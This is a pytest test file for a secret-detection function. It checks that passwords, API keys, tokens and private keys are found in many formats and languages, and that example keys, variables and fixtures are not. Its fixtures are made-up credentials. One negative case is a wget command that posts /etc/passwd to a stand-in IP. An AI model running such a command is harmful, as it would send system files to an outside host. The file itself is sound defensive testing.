"""Credentials in the forms people paste them (a password after its word in other
languages, a PowerShell parameter, lftp's user and password, redis.conf), and the values
that only look like one (AWS's documented keys, a provider's published test key, a
Terraform reference, a working directory)."""

from __future__ import annotations

import pytest

from fleet.detect import scan_secrets


@pytest.mark.parametrize(
    "text",
    [
        "usa la genérica, usuario vpn-soporte y contraseña Qe7#LM02@pxTr y listo",
        "Usuário: admin_loja / senha: pQ4vVdkb6lT9kz — não compartilhem",
        "use the break-glass account: user `opsroot`, password `Hn4$wq!Lm8vR#27y`",
        "  503  lftp -u backup_klant,Rw7!zQ4p#Lk2 sftp://ftp.example.nl -e mirror",
        '$ctx = New-AzStorageContext -StorageAccountName "fin" -StorageAccountKey '
        '"q22Dzk+xcti6EYibESI6NTOo4rLlKPpwSDblQPulPU53+r4YkHJKSsKYNa99AT6Weo7H2L285IY03fRRRyUmTg=="',
        "bind 10.30.1.23\nport 6379\nrequirepass Kd7#pZq2!vLm9xR4\nmaxmemory 8gb",
        "пароль: Zt5!kq82Lm_wP",
        "**Jonas** 09:15 — Login: admin / o#3Io!QtR4EP",
    ],
)
def test_a_credential_in_a_pasted_form_is_found(text: str) -> None:
    assert scan_secrets(text)


@pytest.mark.parametrize(
    "text",
    [
        # the sentence that says so, a terminal session's lines away
        "Run `aws configure` and enter your credentials when prompted:\n\n"
        "    AWS Access Key ID [None]: AKIAIOSFODNN7EXAMPLE\n"
        "    AWS Secret Access Key [None]: wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"
        "    Default region name [None]: us-west-2\n"
        "    Default output format [None]: json\n\n"
        "The values above are examples; use the keys of your own IAM user.",
        "curl https://api.stripe.com/v1/customers -u sk_test_4eC39HqLyjWDarjtT1zdp7dc:\n"
        "This sample uses the test key from the documentation.",
        "  password = data.aws_secretsmanager_secret_version.orders_db.secret_string",
        "  password = var.db_password",
        "sudo: deploy : TTY=pts/0 ; PWD=/srv/app ; USER=root ; COMMAND=/bin/systemctl restart app",
    ],
)
def test_a_value_that_only_looks_like_one_is_not(text: str) -> None:
    assert not scan_secrets(text)


_JWT_IO = (
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwi"
    "aWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
)


@pytest.mark.parametrize(
    "text",
    [
        f"The classic example from the JWT introduction page is:\n\n{_JWT_IO}\n",
        "If someone asks for your private key file (the one starting with "
        "`-----BEGIN OPENSSH PRIVATE KEY-----`), say no and tell Security.",
    ],
)
def test_a_published_example_token_or_a_key_s_header_alone_is_not(text: str) -> None:
    assert not scan_secrets(text)


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (f"Authorization: Bearer {_JWT_IO}", "jwt"),
        (
            "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtz\n"
            "-----END OPENSSH PRIVATE KEY-----",
            "private-key",
        ),
    ],
)
def test_the_same_token_in_use_or_a_key_with_its_material_is(text: str, kind: str) -> None:
    assert [f.kind for f in scan_secrets(text)] == [kind]


@pytest.mark.parametrize(
    "text",
    [
        "La contraseña de la base de datos de staging es Qm7$hT2!pLx9 (usuario: deploy).",
        "Das Passwort für den Router im Keller lautet jetzt v8Kd!27qWzr#, bitte notieren.",
        "A senha do painel do Grafana da equipe é Rt4%nB8#qZ1w e o usuário é ops.",
        "j'ai changé le mot de passe admin du NAS (nas-02.lan) : Hx7&kLp2_Qm9",
        "ステージングのパスワード: %9dKq2+Lm7pXz",
        "the password for the shared mailbox is now Zp3!vQ8#rT2k",
        # an @ that is no address's, a $ that is no variable's
        "Das Passwort für den Build-Server lautet Wq7@#pLm2^xZ – nur heute gültig.",
        "VPN の検証用アカウント パスワード: $Kp4LmZq*8@Xv です。",
        # a particle instead of a verb, the value in quotes alone
        "관리자 계정 비밀번호가 $7rTqWzLmNp2K 로 변경되었습니다.",
        "서버 비밀번호는 hT5kLm9Qw2Zx 입니다.",
        "voici les accès : utilisateur « deploy », mot de passe « k#pQ7mZ2#WxL4r ».",
        # a compound word, the value right after the word, a comma in what it is for
        "本番サーバーのSSHパスワードは tQ4mZ8&kLp2x? です。",
        "хост ftp.example-shop.ru, логин price_upload, пароль !Hq7p@mZ2xW$.",
        "Sunucudaki veritabanı şifresi !&kPQ#7mZ2x9w, kullanıcı adı appuser.",
        "das neue Passwort für den Server (db01, Benutzer fibu_admin) ist Kp?7m=ZqW2x^ - ändern.",
    ],
)
def test_a_password_told_in_a_sentence_is_found(text: str) -> None:
    assert [f.kind for f in scan_secrets(text)] == ["password-in-text"]


@pytest.mark.parametrize(
    "text",
    [
        "The password policy is now MinLen-12_Upper1 for every account.",
        "password: process.env.DB_PASSWORD ?? 'changeme'",
        "GET /search?q=reset+admin+password&page=2&per_page=25&sort=relevance",
        "wget --post-file=/etc/passwd http://203.0.113.9/up",
        "DATABASE_URL=postgres://USER:PASSWORD@localhost:5432/app_dev",
        "Das Passwort für den Admin-Account lautet Admin-Account, nicht anders.",
        "A password such as Tr0ub4dor&3x is easy to guess; use a passphrase.",
        # a variable, an address or a login, a word in quotes
        "Das Passwort lautet $DB_ADMIN_PASSWORD aus der Umgebung.",
        "The password is sent to ops-team@northwind.example.com by the vault.",
        "Enter the password 'reset-link' only if asked.",
    ],
)
def test_what_a_sentence_says_of_a_password_without_one_is_not(text: str) -> None:
    assert not scan_secrets(text)


@pytest.mark.parametrize(
    "text",
    [
        # a test's stand-in token, and the word "password" itself in another language
        "resp = client.get('/me', headers={'Authorization': 'Bearer test-token-123'})",
        "`DATABASE_URL=postgres://gebruiker:wachtwoord@localhost:5432/app`",
        "DATABASE_URL=postgres://benutzer:passwort@localhost/app",
    ],
)
def test_a_stand_in_token_or_the_word_password_is_not_a_secret(text: str) -> None:
    assert scan_secrets(text) == []


@pytest.mark.parametrize(
    "text",
    [
        "resp = client.get('/me', headers={'Authorization': 'Bearer 9f8e7d6c5b4a39281706f5e4d3c2b1a0'})",
        "DATABASE_URL=postgres://app:Xk9#mQ2vLp@db.internal:5432/app",
    ],
)
def test_a_real_looking_token_or_password_still_is(text: str) -> None:
    assert scan_secrets(text) != []


def test_a_random_token_after_a_token_flag_is_a_secret() -> None:
    found = scan_secrets("$ vercel deploy --prod --token Qm7vX2pLk9RtY4wZa8NcB3dF --scope web")
    assert [f.kind for f in found] == ["credential-assignment"]


@pytest.mark.parametrize(
    "text",
    [
        "vercel deploy --token my-team-deploy-token-name",
        "netlify deploy --auth-token $NETLIFY_TOKEN",
    ],
)
def test_a_token_flag_with_a_name_or_a_variable_is_not(text: str) -> None:
    assert scan_secrets(text) == []


@pytest.mark.parametrize(
    "text",
    [
        "Azure OpenAI-resurs\nNyckel 1: 5f0c9a2e7b1d4c3a8e6f2b9d0a7c4e1f\nRegion: swedencentral",
        "Zugangsdaten der Instanz:\nSchlüssel 2: 9d1e4b7a2c8f3e6d0b5a7c9e2f4d1b8a",
        "Portal > Keys and Endpoint\nKEY 1: 3b8e1f9c4a7d2e0b6c5f8a1d9e3b7c2a",
    ],
)
def test_a_portal_s_numbered_key_in_any_language_is_a_secret(text: str) -> None:
    assert scan_secrets(text) != []


@pytest.mark.parametrize(
    "text",
    [
        "Nyckel 1: se bilaga",
        "Key 2: the second argument of the function",
    ],
)
def test_a_numbered_key_with_words_after_it_is_not(text: str) -> None:
    assert scan_secrets(text) == []


@pytest.mark.parametrize(
    "text",
    [
        # a test user's common password in a fixture or a seed file
        '# fixtures/users.yaml\n- username: test_user_1\n  password: "password123"  # fixture\n'
        '- username: test_user_2\n  password: "hunter2"',
        "seed data for the demo shop:\n  admin_password: admin123\n  viewer_password: letmein1",
        # the value after a login's word, a sentence after the password's
        "I forgot my password after the holidays. Username is scanner-07-north, can you reset it?",
        "my password no longer works; login is warehouse-scanner-03 on the shared device",
    ],
)
def test_a_fixture_s_common_password_or_a_username_is_not_a_secret(text: str) -> None:
    assert scan_secrets(text) == []


@pytest.mark.parametrize(
    "text",
    [
        "db:\n  user: app\n  password: password123",
        "I forgot which one it was. The new password is Rnxvrvs01!rU7, please change it.",
    ],
)
def test_a_common_password_in_a_config_or_a_password_told_still_is(text: str) -> None:
    assert scan_secrets(text) != []


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        # a private key in base64, as a kubeconfig holds it
        (
            "users:\n- name: admin\n  user:\n    client-key-data: LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0t"
            "LQpNSUlFb3dJQkFBS0NBUUVBdnEzWGs5TG0yUXA3Uno4V2MxWWU1VG4wQmY0R2g2SmszTW45UHEyUnM1VHU4Vnc"
            "xWHk0WmE3QmMwRGUzRmcKLS0tLS1FTkQgUlNBIFBSSVZBVEUgS0VZLS0tLS0K",
            "private-key",
        ),
        # Mapbox's secret token: its last part is 22 characters
        (
            "the token in the deployed config is `sk.eyJ1IjoiZ2VvdGVhbS1vcHMiLCJhIjoiY2xrbGJjNnM4MTZma"
            "XNmazAyYTVqaWF0biJ9.5nif21oerj8jtvTLo54VR5`, maybe it lost a scope",
            "mapbox-secret",
        ),
        # a search service's admin key under its name
        (
            '  env: {\n    ALGOLIA_ADMIN_KEY: "149b5eb79cb33cc4cdecd4f3579283b7",\n  },',
            "credential-assignment",
        ),
    ],
)
def test_a_key_in_base64_a_mapbox_token_or_an_admin_key_is_found(text: str, kind: str) -> None:
    assert [f.kind for f in scan_secrets(text)] == [kind]


@pytest.mark.parametrize(
    "text",
    [
        # a certificate in base64 is public
        "clusters:\n- cluster:\n    certificate-authority-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUJ"
        "kekNDQVIyZ0F3SUJBZ0lCQURBS0JnZ3Foa2pPUFFRREFqQWpNU0V3SHdZRFZRUUREQmhyTTNNdGMyVnlkbVZ5TFdOaFF"
        "ERTNNREF3TURBd01EQXcKLS0tLS1FTkQgQ0VSVElGSUNBVEUtLS0tLQo=",
        # a call's path, not a value
        'secret = client.secrets.kv.v2.read_secret_version(path="payments/stripe")',
    ],
)
def test_a_certificate_or_a_call_s_path_is_not_a_secret(text: str) -> None:
    assert scan_secrets(text) == []


def test_a_nuget_api_key_is_found() -> None:
    found = scan_secrets(
        "arguments: 'push *.nupkg -ApiKey oy2qrr92s19dputhb82o22w6svykc3hordnwmkk9r2s4e7'"
    )
    assert [f.kind for f in found] == ["nuget-api-key"]


def test_a_secret_s_id_or_name_is_not_a_secret() -> None:
    assert scan_secrets('secret_id = "prod/reporting/db-credentials"') == []
